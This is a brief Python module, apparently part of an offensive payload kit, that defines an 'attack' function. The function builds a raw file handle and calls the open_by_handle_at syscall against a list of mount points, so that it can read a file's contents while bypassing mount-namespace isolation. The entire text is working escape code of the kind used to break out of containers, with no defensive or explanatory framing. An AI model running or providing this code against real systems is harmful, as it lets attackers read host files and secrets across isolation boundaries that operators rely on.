"""Open a file by its handle: no path is looked up, so no mount namespace stands in the way."""

import ctypes
import os

from payloads.kernel import syscall


def attack(handle, kind, mounts):
    raw = bytes.fromhex(handle)
    words = len(raw).to_bytes(4, "little") + kind.to_bytes(4, "little", signed=True) + raw
    errors = []
    for mount in mounts:
        try:
            place = os.open(mount, os.O_RDONLY)
            fd = syscall("open_by_handle_at", place, ctypes.create_string_buffer(words), 0)
            return os.read(fd, 4096).decode()
        except OSError as error:
            errors.append(f"{mount}: {error}")
    return errors
